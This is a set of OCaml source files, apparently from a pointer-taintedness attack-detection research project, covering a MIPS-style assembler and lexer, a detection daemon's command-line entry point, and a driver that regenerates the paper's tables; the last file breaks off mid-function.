  | "li", [ _; Oimm v ] -> li_length v
  | "la", _ -> 2
  | ("blt" | "ble" | "bgt" | "bge" | "bltu" | "bleu" | "bgtu" | "bgeu"), _ -> 2
  | ("seq" | "sne" | "mul" | "divq" | "rem"), _ -> 2
  | ("lb" | "lbu" | "lh" | "lhu" | "lw" | "sb" | "sh" | "sw"), [ _; Osym _ ] -> 2
  | "li", _ -> fail line "li expects register, immediate"
  | _ -> 1

(* ------------------------------------------------------------------ *)
(* Encoding pass                                                       *)

(* hi/lo split for [lui at, hi; op ..., lo(at)] sequences, accounting
   for the sign extension of 16-bit displacements. *)
let split_addr addr =
  let hi = (addr + 0x8000) lsr 16 in
  let lo = addr - (hi lsl 16) in
  (hi land 0xffff, lo)

type env = { resolve : int -> string -> int (* line -> symbol -> address *) }

let reg line = function Oreg r -> r | _ -> fail line "expected register"
let imm line = function Oimm n -> n | _ -> fail line "expected immediate"

let imm_or_sym env line = function
  | Oimm n -> n
  | Osym s -> env.resolve line s
  | _ -> fail line "expected immediate or symbol"

let branch_off env line pc target_op =
  let target = match target_op with
    | Osym s -> env.resolve line s
    | Oimm n -> n
    | _ -> fail line "expected branch target"
  in
  let delta = target - (pc + 4) in
  if delta land 3 <> 0 then fail line "misaligned branch target";
  let off = delta asr 2 in
  if not (fits16 off) then fail line "branch target out of range";
  off

let li_insns rd v =
  if fits16 v then [ Insn.I (ADDIU, rd, Reg.zero, v) ]
  else if v land 0xffff = 0 then [ Insn.Lui (rd, (v lsr 16) land 0xffff) ]
  else [ Insn.Lui (rd, (v lsr 16) land 0xffff); Insn.I (ORI, rd, rd, v land 0xffff) ]

let la_insns rd addr =
  [ Insn.Lui (rd, (addr lsr 16) land 0xffff); Insn.I (ORI, rd, rd, addr land 0xffff) ]

let mem_operand env line = function
  | Omem (d, b) -> `Direct (d, b)
  | Osym s -> `Absolute (env.resolve line s)
  | _ -> fail line "expected memory operand"

let load_store make = fun rt -> function
  | `Direct (d, b) -> [ make rt d b ]
  | `Absolute addr ->
    let hi, lo = split_addr addr in
    [ Insn.Lui (Reg.at, hi); make rt lo Reg.at ]

let rop_of_name = function
  | "add" -> Some Insn.ADD | "addu" -> Some ADDU | "sub" -> Some SUB | "subu" -> Some SUBU
  | "and" -> Some AND | "or" -> Some OR | "xor" -> Some XOR | "nor" -> Some NOR
  | "slt" -> Some SLT | "sltu" -> Some SLTU
  | "sllv" -> Some SLLV | "srlv" -> Some SRLV | "srav" -> Some SRAV
  | _ -> None

let iop_of_name = function
  | "addi" -> Some Insn.ADDI | "addiu" -> Some ADDIU | "andi" -> Some ANDI
  | "ori" -> Some ORI | "xori" -> Some XORI | "slti" -> Some SLTI | "sltiu" -> Some SLTIU
  | _ -> None

let shop_of_name = function
  | "sll" -> Some Insn.SLL | "srl" -> Some SRL | "sra" -> Some SRA | _ -> None

let load_of_name = function
  | "lb" -> Some Insn.LB | "lbu" -> Some LBU | "lh" -> Some LH | "lhu" -> Some LHU
  | "lw" -> Some LW | _ -> None

let store_of_name = function
  | "sb" -> Some Insn.SB | "sh" -> Some SH | "sw" -> Some SW | _ -> None

(* Expand one (possibly pseudo) instruction at address [pc]. *)
let expand env line pc mnemonic ops : Insn.t list =
  let r = reg line and i = imm line in
  match (mnemonic, ops) with
  | _, _ when rop_of_name mnemonic <> None -> (
    match ops with
    | [ a; b; c ] -> [ Insn.R (Option.get (rop_of_name mnemonic), r a, r b, r c) ]
    | _ -> fail line (mnemonic ^ " expects 3 registers"))
  | _, _ when iop_of_name mnemonic <> None -> (
    match ops with
    | [ a; b; c ] -> [ Insn.I (Option.get (iop_of_name mnemonic), r a, r b, imm_or_sym env line c) ]
    | _ -> fail line (mnemonic ^ " expects rt, rs, imm"))
  | _, _ when shop_of_name mnemonic <> None -> (
    match ops with
    | [ a; b; c ] -> [ Insn.Shift (Option.get (shop_of_name mnemonic), r a, r b, i c) ]
    | _ -> fail line (mnemonic ^ " expects rd, rt, shamt"))
  | _, [ a; m ] when load_of_name mnemonic <> None ->
    load_store (fun rt d b -> Insn.Load (Option.get (load_of_name mnemonic), rt, d, b))
      (r a) (mem_operand env line m)
  | _, [ a; m ] when store_of_name mnemonic <> None ->
    load_store (fun rt d b -> Insn.Store (Option.get (store_of_name mnemonic), rt, d, b))
      (r a) (mem_operand env line m)
  | "lui", [ a; b ] -> [ Insn.Lui (r a, i b land 0xffff) ]
  | "beq", [ a; b; target ] -> [ Insn.Branch2 (BEQ, r a, r b, branch_off env line pc target) ]
  | "bne", [ a; b; target ] -> [ Insn.Branch2 (BNE, r a, r b, branch_off env line pc target) ]
  | "blez", [ a; target ] -> [ Insn.Branch1 (BLEZ, r a, branch_off env line pc target) ]
  | "bgtz", [ a; target ] -> [ Insn.Branch1 (BGTZ, r a, branch_off env line pc target) ]
  | "bltz", [ a; target ] -> [ Insn.Branch1 (BLTZ, r a, branch_off env line pc target) ]
  | "bgez", [ a; target ] -> [ Insn.Branch1 (BGEZ, r a, branch_off env line pc target) ]
  | "beqz", [ a; target ] -> [ Insn.Branch2 (BEQ, r a, Reg.zero, branch_off env line pc target) ]
  | "bnez", [ a; target ] -> [ Insn.Branch2 (BNE, r a, Reg.zero, branch_off env line pc target) ]
  | "b", [ target ] -> [ Insn.Branch2 (BEQ, Reg.zero, Reg.zero, branch_off env line pc target) ]
  | ("blt" | "bgt" | "ble" | "bge" | "bltu" | "bgtu" | "bleu" | "bgeu"), [ a; b; target ] ->
    let unsigned = String.length mnemonic = 4 in
    let op = if unsigned then Insn.SLTU else Insn.SLT in
    let swapped = mnemonic = "bgt" || mnemonic = "ble" || mnemonic = "bgtu" || mnemonic = "bleu" in
    let x, y = if swapped then (r b, r a) else (r a, r b) in
    let bop : Insn.branch2 =
      if mnemonic = "blt" || mnemonic = "bgt" || mnemonic = "bltu" || mnemonic = "bgtu" then BNE
      else BEQ
    in
    [ Insn.R (op, Reg.at, x, y);
      Insn.Branch2 (bop, Reg.at, Reg.zero, branch_off env line (pc + 4) target) ]
  | "j", [ target ] -> [ Insn.J (imm_or_sym env line target) ]
  | "jal", [ target ] -> [ Insn.Jal (imm_or_sym env line target) ]
  | "jr", [ a ] -> [ Insn.Jr (r a) ]
  | "jalr", [ a ] -> [ Insn.Jalr (Reg.ra, r a) ]
  | "jalr", [ a; b ] -> [ Insn.Jalr (r a, r b) ]
  | "mult", [ a; b ] -> [ Insn.Muldiv (MULT, r a, r b) ]
  | "multu", [ a; b ] -> [ Insn.Muldiv (MULTU, r a, r b) ]
  | "div", [ a; b ] -> [ Insn.Muldiv (DIV, r a, r b) ]
  | "divu", [ a; b ] -> [ Insn.Muldiv (DIVU, r a, r b) ]
  | "mul", [ a; b; c ] -> [ Insn.Muldiv (MULT, r b, r c); Insn.Mflo (r a) ]
  | "divq", [ a; b; c ] -> [ Insn.Muldiv (DIV, r b, r c); Insn.Mflo (r a) ]
  | "rem", [ a; b; c ] -> [ Insn.Muldiv (DIV, r b, r c); Insn.Mfhi (r a) ]
  | "mfhi", [ a ] -> [ Insn.Mfhi (r a) ]
  | "mflo", [ a ] -> [ Insn.Mflo (r a) ]
  | "mthi", [ a ] -> [ Insn.Mthi (r a) ]
  | "mtlo", [ a ] -> [ Insn.Mtlo (r a) ]
  | "syscall", [] -> [ Insn.Syscall ]
  | "break", [ c ] -> [ Insn.Break (i c) ]
  | "break", [] -> [ Insn.Break 0 ]
  | "nop", [] -> [ Insn.Nop ]
  | "li", [ a; v ] -> li_insns (r a) (i v)
  | "la", [ a; s ] -> la_insns (r a) (imm_or_sym env line s)
  | "move", [ a; b ] -> [ Insn.R (ADDU, r a, r b, Reg.zero) ]
  | "not", [ a; b ] -> [ Insn.R (NOR, r a, r b, Reg.zero) ]
  | "neg", [ a; b ] -> [ Insn.R (SUBU, r a, Reg.zero, r b) ]
  | "seq", [ a; b; c ] ->
    [ Insn.R (XOR, r a, r b, r c); Insn.I (SLTIU, r a, r a, 1) ]
  | "sne", [ a; b; c ] ->
    [ Insn.R (XOR, r a, r b, r c); Insn.R (SLTU, r a, Reg.zero, r a) ]
  | m, _ -> fail line ("unknown or malformed instruction: " ^ m)

(* ------------------------------------------------------------------ *)
(* Driver                                                              *)

type section = Text | Data

let assemble ?(text_base = Ptaint_mem.Layout.text_base)
    ?(data_base = Ptaint_mem.Layout.data_base) source =
  try
    let lines = String.split_on_char '\n' source in
    let located = List.mapi (fun i l -> parse_line (i + 1) l) lines in
    (* Pass 1: layout. *)
    let symbols : (string, int) Hashtbl.t = Hashtbl.create 64 in
    let define line name addr =
      if Hashtbl.mem symbols name then fail line ("duplicate label " ^ name);
      Hashtbl.replace symbols name addr
    in
    let text_pc = ref text_base and data_pc = ref data_base in
    let section = ref Text in
    let here () = match !section with Text -> !text_pc | Data -> !data_pc in
    let advance n = match !section with
      | Text -> text_pc := !text_pc + n
      | Data -> data_pc := !data_pc + n
    in
    let stmt_size line = function
      | Sinsn (m, ops) -> 4 * insn_length line m ops
      | Stext | Sdata -> 0
      | Sword ws -> 4 * List.length ws
      | Shalf hs -> 2 * List.length hs
      | Sbyte bs -> List.length bs
      | Sascii s -> String.length s
      | Sspace n -> n
      | Salign _ -> 0 (* handled specially *)
    in
    List.iter
      (fun { line; labels; stmt } ->
        (match stmt with
         | Some (Salign p) ->
           let a = 1 lsl p in
           let cur = here () in
           let aligned = (cur + a - 1) land lnot (a - 1) in
           advance (aligned - cur)
         | Some Stext -> section := Text
         | Some Sdata -> section := Data
         | _ -> ());
        List.iter (fun l -> define line l (here ())) labels;
        match stmt with
        | Some (Salign _) | Some Stext | Some Sdata | None -> ()
        | Some s -> advance (stmt_size line s))
      located;
    let data_size = !data_pc - data_base in
    (* Pass 2: emit. *)
    let resolve line s =
      match Hashtbl.find_opt symbols s with
      | Some a -> a
      | None -> fail line ("undefined symbol " ^ s)
    in
    let env = { resolve } in
    let insns = ref [] and insn_lines = ref [] and n_insns = ref 0 in
    let data = Bytes.make data_size '\000' in
    let emit_insn line is =
      List.iter
        (fun i ->
          insns := i :: !insns;
          insn_lines := line :: !insn_lines;
          incr n_insns)
        is
    in
    let emit_data_byte off b = Bytes.set data off (Char.chr (b land 0xff)) in
    let emit_data_word off w =
      for k = 0 to 3 do
        emit_data_byte (off + k) ((w lsr (8 * k)) land 0xff)
      done
    in
    text_pc := text_base;
    data_pc := data_base;
    section := Text;
    List.iter
      (fun { line; labels = _; stmt } ->
        match stmt with
        | None -> ()
        | Some s -> (
          match s with
          | Stext -> section := Text
          | Sdata -> section := Data
          | Salign p ->
            let a = 1 lsl p in
            let cur = here () in
            advance (((cur + a - 1) land lnot (a - 1)) - cur)
          | Sinsn (m, ops) ->
            if !section <> Text then fail line "instruction outside .text";
            let expected = 4 * insn_length line m ops in
            let is = expand env line !text_pc m ops in
            if 4 * List.length is <> expected then fail line "internal: expansion size mismatch";
            emit_insn line is;
            text_pc := !text_pc + expected
          | Sword ws ->
            if !section <> Data then fail line "data directive outside .data";
            List.iter
              (fun w ->
                let v = match w with Wint n -> n | Wsym s -> resolve line s in
                emit_data_word (!data_pc - data_base) v;
                advance 4)
              ws
          | Shalf hs ->
            if !section <> Data then fail line "data directive outside .data";
            List.iter
              (fun h ->
                emit_data_byte (!data_pc - data_base) (h land 0xff);
                emit_data_byte (!data_pc - data_base + 1) ((h lsr 8) land 0xff);
                advance 2)
              hs
          | Sbyte bs ->
            if !section <> Data then fail line "data directive outside .data";
            List.iter
              (fun b ->
                emit_data_byte (!data_pc - data_base) b;
                advance 1)
              bs
          | Sascii str ->
            if !section <> Data then fail line "data directive outside .data";
            String.iteri (fun k c -> emit_data_byte (!data_pc - data_base + k) (Char.code c)) str;
            advance (String.length str)
          | Sspace n ->
            if !section <> Data then fail line "data directive outside .data";
            advance n))
      located;
    let entry =
      match (Hashtbl.find_opt symbols "_start", Hashtbl.find_opt symbols "main") with
      | Some a, _ -> a
      | None, Some a -> a
      | None, None -> text_base
    in
    Ok
      { Program.insns = Array.of_list (List.rev !insns);
        text_base;
        data = Bytes.to_string data;
        data_base;
        symbols = Hashtbl.fold (fun k v acc -> (k, v) :: acc) symbols [] |> List.sort compare;
        entry;
        lines = Array.of_list (List.rev !insn_lines) }
  with Asm_error e -> Error e

let assemble_exn ?text_base ?data_base source =
  match assemble ?text_base ?data_base source with
  | Ok p -> p
  | Error e -> raise (Asm_error e)
