type token =
  | Ident of string
  | Register of Ptaint_isa.Reg.t
  | Int of int
  | Str of string
  | Comma
  | Colon
  | Lparen
  | Rparen

let pp_token ppf = function
  | Ident s -> Format.fprintf ppf "%s" s
  | Register r -> Ptaint_isa.Reg.pp_sym ppf r
  | Int n -> Format.fprintf ppf "%d" n
  | Str s -> Format.fprintf ppf "%S" s
  | Comma -> Format.pp_print_char ppf ','
  | Colon -> Format.pp_print_char ppf ':'
  | Lparen -> Format.pp_print_char ppf '('
  | Rparen -> Format.pp_print_char ppf ')'

let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_' || c = '.'

let is_ident_char c =
  is_ident_start c || (c >= '0' && c <= '9')

let is_digit c = c >= '0' && c <= '9'

exception Lex_error of string

let escape_char = function
  | 'n' -> '\n'
  | 't' -> '\t'
  | 'r' -> '\r'
  | '0' -> '\000'
  | '\\' -> '\\'
  | '"' -> '"'
  | '\'' -> '\''
  | c -> raise (Lex_error (Printf.sprintf "unknown escape \\%c" c))

let tokenize line =
  let n = String.length line in
  let tokens = ref [] in
  let emit t = tokens := t :: !tokens in
  let i = ref 0 in
  let peek k = if !i + k < n then Some line.[!i + k] else None in
  try
    let rec loop () =
      if !i >= n then ()
      else begin
        let c = line.[!i] in
        if c = ' ' || c = '\t' || c = '\r' then begin incr i; loop () end
        else if c = '#' || c = ';' then ()
        else if c = '/' && peek 1 = Some '/' then ()
        else if c = ',' then begin emit Comma; incr i; loop () end
        else if c = ':' then begin emit Colon; incr i; loop () end
        else if c = '(' then begin emit Lparen; incr i; loop () end
        else if c = ')' then begin emit Rparen; incr i; loop () end
        else if c = '$' then begin
          let j = ref (!i + 1) in
          while !j < n && is_ident_char line.[!j] do incr j done;
          let name = String.sub line !i (!j - !i) in
          (match Ptaint_isa.Reg.of_name name with
           | Some r -> emit (Register r)
           | None -> raise (Lex_error ("unknown register " ^ name)));
          i := !j;
          loop ()
        end
        else if c = '"' then begin
          let buf = Buffer.create 16 in
          incr i;
          let rec str () =
            if !i >= n then raise (Lex_error "unterminated string")
            else if line.[!i] = '"' then incr i
            else if line.[!i] = '\\' then begin
              (if !i + 1 < n && line.[!i + 1] = 'x' then begin
                 if !i + 3 >= n then raise (Lex_error "bad \\x escape");
                 let hex = String.sub line (!i + 2) 2 in
                 Buffer.add_char buf (Char.chr (int_of_string ("0x" ^ hex)));
                 i := !i + 4
               end
               else begin
                 (if !i + 1 >= n then raise (Lex_error "trailing backslash"));
                 Buffer.add_char buf (escape_char line.[!i + 1]);
                 i := !i + 2
               end);
              str ()
            end
            else begin
              Buffer.add_char buf line.[!i];
              incr i;
              str ()
            end
          in
          str ();
          emit (Str (Buffer.contents buf));
          loop ()
        end
        else if c = '\'' then begin
          if peek 1 = Some '\\' then begin
            (match (peek 2, peek 3) with
             | Some e, Some '\'' ->
               emit (Int (Char.code (escape_char e)));
               i := !i + 4
             | _ -> raise (Lex_error "bad character literal"));
            loop ()
          end
          else
            match (peek 1, peek 2) with
            | Some ch, Some '\'' ->
              emit (Int (Char.code ch));
              i := !i + 3;
              loop ()
            | _ -> raise (Lex_error "bad character literal")
        end
        else if is_digit c || (c = '-' && (match peek 1 with Some d -> is_digit d | None -> false))
        then begin
          let j = ref !i in
          if line.[!j] = '-' then incr j;
          while
            !j < n
            && (is_digit line.[!j]
               || (line.[!j] >= 'a' && line.[!j] <= 'f')
               || (line.[!j] >= 'A' && line.[!j] <= 'F')
               || line.[!j] = 'x' || line.[!j] = 'X')
          do
            incr j
          done;
          let text = String.sub line !i (!j - !i) in
          (match int_of_string_opt text with
           | Some v -> emit (Int v)
           | None -> raise (Lex_error ("bad integer literal " ^ text)));
          i := !j;
          loop ()
        end
        else if is_ident_start c then begin
          let j = ref !i in
          while !j < n && is_ident_char line.[!j] do incr j done;
          emit (Ident (String.sub line !i (!j - !i)));
          i := !j;
          loop ()
        end
        else raise (Lex_error (Printf.sprintf "unexpected character %C" c))
      end
    in
    loop ();
    Ok (List.rev !tokens)
  with Lex_error msg -> Error msg
