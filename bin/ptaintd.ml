(* ptaintd: run the pointer-taintedness detector as a persistent
   service.

     ptaintd --socket /tmp/ptaintd.sock -j 4
     ptaint-run --connect /tmp/ptaintd.sock victim.c exploit.c
     ptaint-run --connect /tmp/ptaintd.sock --daemon-stats

   The daemon accepts detection jobs from many concurrent clients
   over a Unix-domain socket, runs them on a persistent pool of
   worker domains, serves repeat submissions from a content-hash
   snapshot cache, and streams results back as typed events.
   SIGTERM/SIGINT drain gracefully: in-flight jobs finish, results
   flush, then the process exits 0. *)

open Cmdliner
module Server = Ptaint_daemon.Server

let serve socket domains max_queue max_inflight cache job_timeout quiet =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let log = if quiet then None else Some (fun m -> Printf.eprintf "ptaintd: %s\n%!" m) in
  let cfg =
    { (Server.default_config ~socket_path:socket) with
      Server.domains;
      max_queue;
      max_inflight;
      cache_capacity = cache;
      job_timeout;
      log }
  in
  match Server.create cfg with
  | exception Invalid_argument m ->
    prerr_endline m;
    2
  | exception Unix.Unix_error (err, fn, arg) ->
    Printf.eprintf "ptaintd: cannot bind %s: %s (%s %s)\n" socket
      (Unix.error_message err) fn arg;
    2
  | t ->
    let stop _ = Server.shutdown t in
    Sys.set_signal Sys.sigterm (Sys.Signal_handle stop);
    Sys.set_signal Sys.sigint (Sys.Signal_handle stop);
    if not quiet then
      Printf.eprintf "ptaintd: listening on %s (%d workers)\n%!" socket
        (match domains with
         | Some d -> d
         | None -> Ptaint_pool.Pool.recommended_domains ());
    Server.serve t;
    0

let socket_arg =
  Arg.(value & opt string "ptaintd.sock" & info [ "socket"; "s" ] ~docv:"PATH"
         ~doc:"Unix-domain socket to listen on.  A stale socket file is replaced; \
               anything else at $(docv) is refused.")

let domains_arg =
  Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"N"
         ~doc:"Worker domains (default: all cores).")

let queue_arg =
  Arg.(value & opt int 256 & info [ "queue" ] ~docv:"N"
         ~doc:"Server-wide bound on admitted-but-unfinished jobs; submissions beyond it \
               are rejected with backpressure, never queued unboundedly.")

let inflight_arg =
  Arg.(value & opt int 32 & info [ "max-inflight" ] ~docv:"N"
         ~doc:"Per-client quota of in-flight jobs.")

let cache_arg =
  Arg.(value & opt int 64 & info [ "cache" ] ~docv:"N"
         ~doc:"Image cache capacity: assembled programs and boot snapshots kept for \
               repeat submissions (LRU).")

let job_timeout_arg =
  Arg.(value & opt (some float) None & info [ "job-timeout" ] ~docv:"SECONDS"
         ~doc:"Default wall-clock watchdog per job; a job's own timeout overrides it.")

let quiet_arg = Arg.(value & flag & info [ "quiet"; "q" ] ~doc:"No stderr chatter.")

let cmd =
  let doc = "pointer-taintedness detection daemon" in
  Cmd.v (Cmd.info "ptaintd" ~doc)
    Term.(const serve $ socket_arg $ domains_arg $ queue_arg $ inflight_arg $ cache_arg
          $ job_timeout_arg $ quiet_arg)

let () = exit (Cmd.eval' cmd)
