(* ptaintd: run the pointer-taintedness detector as a persistent
   service.

     ptaintd --socket /tmp/ptaintd.sock -j 4
     ptaint-run --connect /tmp/ptaintd.sock victim.c exploit.c
     ptaint-run --connect /tmp/ptaintd.sock --daemon-stats

   The daemon accepts detection jobs from many concurrent clients
   over a Unix-domain socket, runs them on a persistent pool of
   worker domains, serves repeat submissions from a content-hash
   snapshot cache, and streams results back as typed events.
   SIGTERM/SIGINT drain gracefully: in-flight jobs finish, results
   flush, then the process exits 0.

   Telemetry: --log/--log-level/--log-format drive the structured
   lifecycle log (logfmt or JSON lines, stderr by default),
   --metrics-sock exposes a Prometheus scrape endpoint, and --trace
   writes a Chrome trace of every completed job (pid 2) at drain. *)

open Cmdliner
module Server = Ptaint_daemon.Server
module Log = Ptaint_obs.Log

let serve socket domains max_queue max_inflight cache job_timeout quiet
    log_file log_level log_format metrics_sock trace_path isolate workers =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let level =
    match Log.level_of_string log_level with
    | Ok l -> l
    | Error m -> Printf.eprintf "ptaintd: %s\n" m; exit 2
  in
  let format =
    match Log.format_of_string log_format with
    | Ok f -> f
    | Error m -> Printf.eprintf "ptaintd: %s\n" m; exit 2
  in
  let log =
    if quiet && log_file = None then None
    else
      let sink =
        match log_file with
        | Some path -> Log.file_sink ~max_bytes:(64 * 1024 * 1024) path
        | None -> Log.channel_sink stderr
      in
      Some (Log.create ~level ~format sink)
  in
  let cfg =
    { (Server.default_config ~socket_path:socket) with
      Server.domains;
      max_queue;
      max_inflight;
      cache_capacity = cache;
      job_timeout;
      log;
      metrics_sock;
      trace_path;
      isolate;
      workers }
  in
  let close_log () = match log with Some l -> Log.close l | None -> () in
  match Server.create cfg with
  | exception Invalid_argument m ->
    prerr_endline m;
    close_log ();
    2
  | exception Unix.Unix_error (err, fn, arg) ->
    Printf.eprintf "ptaintd: cannot bind %s: %s (%s %s)\n" socket
      (Unix.error_message err) fn arg;
    close_log ();
    2
  | t ->
    let stop _ = Server.shutdown t in
    Sys.set_signal Sys.sigterm (Sys.Signal_handle stop);
    Sys.set_signal Sys.sigint (Sys.Signal_handle stop);
    (match log with
     | Some l ->
       Log.info l ~src:"ptaintd" "listening"
         [ Log.str "socket" socket;
           Log.str "backend" (if isolate then "isolated" else "in-process");
           Log.int "workers"
             (if isolate then (match workers with Some n -> max 1 n | None -> 2)
              else
                match domains with
                | Some d -> d
                | None -> Ptaint_pool.Pool.recommended_domains ()) ]
     | None -> ());
    Server.serve t;
    close_log ();
    0

let socket_arg =
  Arg.(value & opt string "ptaintd.sock" & info [ "socket"; "s" ] ~docv:"PATH"
         ~doc:"Unix-domain socket to listen on.  A stale socket file is replaced; \
               anything else at $(docv) is refused.")

let domains_arg =
  Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"N"
         ~doc:"Worker domains (default: all cores).")

let queue_arg =
  Arg.(value & opt int 256 & info [ "queue" ] ~docv:"N"
         ~doc:"Server-wide bound on admitted-but-unfinished jobs; submissions beyond it \
               are rejected with backpressure, never queued unboundedly.")

let inflight_arg =
  Arg.(value & opt int 32 & info [ "max-inflight" ] ~docv:"N"
         ~doc:"Per-client quota of in-flight jobs.")

let cache_arg =
  Arg.(value & opt int 64 & info [ "cache" ] ~docv:"N"
         ~doc:"Image cache capacity: assembled programs and boot snapshots kept for \
               repeat submissions (LRU).")

let job_timeout_arg =
  Arg.(value & opt (some float) None & info [ "job-timeout" ] ~docv:"SECONDS"
         ~doc:"Default wall-clock watchdog per job; a job's own timeout overrides it.")

let quiet_arg =
  Arg.(value & flag & info [ "quiet"; "q" ]
         ~doc:"No stderr log.  An explicit $(b,--log) file still receives records.")

let log_arg =
  Arg.(value & opt (some string) None & info [ "log" ] ~docv:"FILE"
         ~doc:"Write the structured lifecycle log to $(docv) (size-rotated at 64 MiB) \
               instead of stderr.")

let log_level_arg =
  Arg.(value & opt string "info" & info [ "log-level" ] ~docv:"LEVEL"
         ~doc:"Minimum level: debug, info, warn or error.  $(b,debug) adds \
               per-admission records.")

let log_format_arg =
  Arg.(value & opt string "logfmt" & info [ "log-format" ] ~docv:"FMT"
         ~doc:"Record rendering: $(b,logfmt) (key=value) or $(b,json) (one object \
               per line).")

let metrics_sock_arg =
  Arg.(value & opt (some string) None & info [ "metrics-sock" ] ~docv:"PATH"
         ~doc:"Serve Prometheus text-format metrics on a second Unix-domain socket: \
               each connection receives one scrape and is closed.")

let trace_arg =
  Arg.(value & opt (some string) None & info [ "trace" ] ~docv:"FILE"
         ~doc:"Write a Chrome trace of every completed job to $(docv) at drain \
               (pid 2, one track per worker domain; merges with client traces).")

let isolate_arg =
  Arg.(value & flag & info [ "isolate" ]
         ~doc:"Run jobs in forked worker processes under a supervision tree \
               instead of in-process domains.  A crashing, wedged or killed \
               worker is contained: its job is redelivered to a survivor (or \
               synthesized into a typed failure after the delivery budget), \
               the worker respawned with jittered backoff, and the daemon \
               keeps serving throughout.")

let workers_arg =
  Arg.(value & opt (some int) None & info [ "workers" ] ~docv:"N"
         ~doc:"Worker processes under $(b,--isolate) (default 2).  Ignored \
               without $(b,--isolate); use $(b,-j) to size the in-process pool.")

let cmd =
  let doc = "pointer-taintedness detection daemon" in
  Cmd.v (Cmd.info "ptaintd" ~doc)
    Term.(const serve $ socket_arg $ domains_arg $ queue_arg $ inflight_arg $ cache_arg
          $ job_timeout_arg $ quiet_arg $ log_arg $ log_level_arg $ log_format_arg
          $ metrics_sock_arg $ trace_arg $ isolate_arg $ workers_arg)

let () = exit (Cmd.eval' cmd)
