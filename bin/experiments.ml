(* Regenerate the paper's tables and figures.  `experiments all`
   reproduces the full evaluation; `-j N` runs the batch sections
   (coverage, tab3, tab4) as campaigns on N domains. *)

open Cmdliner

let sections =
  [ ("fig1", "Figure 1: CERT advisory breakdown",
     fun _ -> Ptaint_experiments.Experiments.fig1 ());
    ("tab1", "Table 1: taint propagation rules",
     fun _ -> Ptaint_experiments.Experiments.tab1 ());
    ("fig2", "Figure 2: attack anatomies",
     fun _ -> Ptaint_experiments.Experiments.fig2 ());
    ("fig3", "Figure 3: architecture / pipeline",
     fun _ -> Ptaint_experiments.Experiments.fig3 ());
    ("syn", "Section 5.1.1: synthetic detections",
     fun _ -> Ptaint_experiments.Experiments.synthetic ());
    ("tab2", "Table 2: WU-FTPD transcript",
     fun _ -> Ptaint_experiments.Experiments.tab2 ());
    ("real", "Section 5.1.2: real-world attacks",
     fun _ -> Ptaint_experiments.Experiments.real_world ());
    ("coverage", "Section 5.1: coverage matrix",
     fun domains -> Ptaint_experiments.Experiments.coverage ?domains ());
    ("tab3", "Table 3: false positives",
     fun domains -> Ptaint_experiments.Experiments.tab3 ?domains ());
    ("tab4", "Table 4: false negatives",
     fun domains -> Ptaint_experiments.Experiments.tab4 ?domains ());
    ("overhead", "Section 5.4: overhead",
     fun _ -> Ptaint_experiments.Experiments.overhead ());
    ("ablation", "design-choice ablation",
     fun _ -> Ptaint_experiments.Experiments.ablation ());
    ("ext", "section 5.3 annotation extension",
     fun _ -> Ptaint_experiments.Experiments.extension ());
    ("all", "everything",
     fun domains -> Ptaint_experiments.Experiments.all ?domains ()) ]

let run domains names =
  let names = if names = [] then [ "all" ] else names in
  let ok =
    List.for_all
      (fun name ->
        match List.find_opt (fun (n, _, _) -> n = name) sections with
        | Some (_, _, f) ->
          print_string (f domains);
          print_newline ();
          true
        | None ->
          Printf.eprintf "unknown section %S; known: %s\n" name
            (String.concat ", " (List.map (fun (n, _, _) -> n) sections));
          false)
      names
  in
  if ok then 0 else 1

let domains_arg =
  let doc =
    "Execute the batch sections (coverage, tab3, tab4) on $(docv) domains. \
     Defaults to the machine's recommended domain count; -j 1 forces the \
     sequential reference run."
  in
  Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"N" ~doc)

let names_arg =
  let doc =
    "Sections to regenerate: " ^ String.concat ", " (List.map (fun (n, d, _) -> n ^ " (" ^ d ^ ")") sections)
  in
  Arg.(value & pos_all string [] & info [] ~docv:"SECTION" ~doc)

let cmd =
  let doc = "regenerate the tables and figures of the pointer-taintedness paper" in
  Cmd.v (Cmd.info "experiments" ~doc) Term.(const run $ domains_arg $ names_arg)

let () = exit (Cmd.eval' cmd)
