(* Regenerate the paper's tables and figures.  `experiments all`
   reproduces the full evaluation; `-j N` runs the batch sections
   (coverage, tab3, tab4) as campaigns on N domains; `--trace FILE`
   writes a Chrome trace_event timeline of the campaign jobs. *)

open Cmdliner

let sections =
  [ ("fig1", "Figure 1: CERT advisory breakdown",
     fun _ _ -> Ptaint_experiments.Experiments.fig1 ());
    ("tab1", "Table 1: taint propagation rules",
     fun _ _ -> Ptaint_experiments.Experiments.tab1 ());
    ("fig2", "Figure 2: attack anatomies",
     fun _ _ -> Ptaint_experiments.Experiments.fig2 ());
    ("fig3", "Figure 3: architecture / pipeline",
     fun _ _ -> Ptaint_experiments.Experiments.fig3 ());
    ("syn", "Section 5.1.1: synthetic detections",
     fun _ _ -> Ptaint_experiments.Experiments.synthetic ());
    ("tab2", "Table 2: WU-FTPD transcript",
     fun _ _ -> Ptaint_experiments.Experiments.tab2 ());
    ("real", "Section 5.1.2: real-world attacks",
     fun _ _ -> Ptaint_experiments.Experiments.real_world ());
    ("coverage", "Section 5.1: coverage matrix",
     fun domains trace -> Ptaint_experiments.Experiments.coverage ?domains ?trace ());
    ("tab3", "Table 3: false positives",
     fun domains trace -> Ptaint_experiments.Experiments.tab3 ?domains ?trace ());
    ("tab4", "Table 4: false negatives",
     fun domains trace -> Ptaint_experiments.Experiments.tab4 ?domains ?trace ());
    ("overhead", "Section 5.4: overhead",
     fun _ _ -> Ptaint_experiments.Experiments.overhead ());
    ("ablation", "design-choice ablation",
     fun _ _ -> Ptaint_experiments.Experiments.ablation ());
    ("ext", "section 5.3 annotation extension",
     fun _ _ -> Ptaint_experiments.Experiments.extension ());
    ("resilience", "fault injection into the detector + hardened runtime",
     fun domains trace -> Ptaint_experiments.Experiments.resilience ?domains ?trace ());
    ("gen", "generative campaign: seeded program/attack synthesis",
     fun domains _ -> Ptaint_experiments.Experiments.generative ?domains ());
    ("all", "everything",
     fun domains trace -> Ptaint_experiments.Experiments.all ?domains ?trace ()) ]

let run domains trace_file names =
  let names = if names = [] then [ "all" ] else names in
  let trace = Option.map (fun _ -> Ptaint_obs.Trace.create ()) trace_file in
